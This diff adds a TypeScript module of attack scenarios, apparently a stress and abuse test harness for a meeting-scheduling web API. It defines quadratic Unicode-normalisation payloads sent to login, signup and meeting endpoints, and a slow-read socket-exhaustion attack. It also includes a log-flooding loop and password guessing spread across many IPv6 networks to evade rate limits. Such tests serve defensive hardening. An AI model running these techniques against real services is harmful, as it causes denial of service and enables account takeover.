@@ -1,0 +1,95 @@
+import type { IncomingMessage } from "node:http";
+import { Agent } from "node:http";
+import { setTimeout as delay } from "node:timers/promises";
+import { allSlots } from "./large-meeting.ts";
+import { openReply } from "./send-request.ts";
+import { type Attack, ATTACKER, pace, repeat, strike } from "./stage.ts";
+
+/** Marks in an order that makes normalising quadratic: nearly the 256 kB that a body may have. */
+const MARKED = `a${"\u0301".repeat(63_000)}${"\u0323".repeat(63_000)}`;
+const MEETING = { timezone: "UTC", minStartHour: 9, maxEndHour: 17, tentativeDates: ["2026-12-01"] };
+
+/** Text that is dear to normalise, wherever text is taken. */
+export const longText: Attack = async (stage) => {
+  const { email, meetingID } = stage;
+  const calls: readonly (readonly [string, unknown])[] = [
+    ["/api/login", { email, password: MARKED }],
+    ["/api/signup", { email: "new@attacker.example", password: MARKED, name: "A" }],
+    ["/api/signup", { email: "new@attacker.example", password: "long enough", name: MARKED }],
+    ["/api/reset-password", { email: MARKED }],
+    ["/api/confirm-password-reset", { password: MARKED }],
+    [`/api/meetings/${meetingID}/respondents/guest`, { name: MARKED, availabilities: [] }],
+    ["/api/meetings", { ...MEETING, name: MARKED }],
+    ["/api/meetings", { ...MEETING, name: "A", about: MARKED }],
+  ];
+  await repeat(stage, 2, async (worker, turn) => {
+    const [path, body] = calls[(worker + turn) % calls.length]!;
+    await strike(stage, path, { method: "POST", body });
+  });
+};
+
+const UNREAD = 190;
+const OPENED_AT_MOST = 2_000;
+
+/** Replies with the whole of a large meeting that are never read, each asked for with another key; and large saves. */
+export const unreadReplies: Attack = async (stage) => {
+  const path = `/api/meetings/${stage.meetingID}`;
+  const held = new Set<IncomingMessage>();
+  let [opening, opened] = [0, 0];
+  const lazy = new Agent({ keepAlive: false });
+  async function open(): Promise<void> {
+    opening += 1;
+    opened += 1;
+    try {
+      const headers = { "x-respondent-key": key(opened) };
+      const response = await openReply(stage.url + path, { ...ATTACKER, agent: lazy, headers });
+      stage.note(response.statusCode ?? 0);
+      response.on("error", () => {});
+      if (response.statusCode !== 200) return void response.resume();
+      held.add(response);
+      response.on("close", () => held.delete(response));
+    } catch {
+      stage.note("cut");
+    } finally {
+      opening -= 1;
+    }
+  }
+  const saving = repeat(stage, 2, async (_worker, turn) => {
+    const body = { name: `Again ${turn}`, availabilities: allSlots() };
+    await strike(stage, `${path}/respondents/guest`, { method: "POST", body });
+    await delay(100);
+  });
+  const opens = pace(stage, 1_000, () => {
+    while (opening + held.size < UNREAD && opened < OPENED_AT_MOST) void open();
+  });
+  await Promise.all([saving, opens]);
+  // What is held stays held: the process lives on for a while, and the sockets with it.
+};
+
+function key(n: number): string {
+  return `k${String(n).padStart(31, "0")}`;
+}
+
+/** Requests that change nothing and cost the sender nothing, each perhaps a line in a log. */
+export const logFlood: Attack = async (stage) => {
+  const path = `/api/meetings/${stage.meetingID}`;
+  await repeat(stage, 30, async (worker, turn) => {
+    const kind = (worker + turn) % 4;
+    if (kind === 0) return strike(stage, "/api/server-info", { method: "HEAD" });
+    if (kind === 1) return strike(stage, path, { method: "OPTIONS" });
+    if (kind === 2) return strike(stage, `/api/nothing/${turn}`, {});
+    return strike(stage, "/", { method: "HEAD" });
+  });
+};
+
+const NETWORKS = 130;
+
+/** Passwords guessed from many networks of one provider's customer: half at one account, half at any. */
+export const guessedPasswords: Attack = async (stage) => {
+  await repeat(stage, NETWORKS, async (network, turn) => {
+    const from = `2001:db8:1:${(network + 1).toString(16)}::1`;
+    const email = turn % 2 === 0 ? stage.email : `person-${network}-${turn}@guessed.example`;
+    const body = { email, password: `guess ${network} ${turn}` };
+    await Promise.all([strike(stage, "/api/login", { method: "POST", body, from }), delay(1_000)]);
+  });
+};
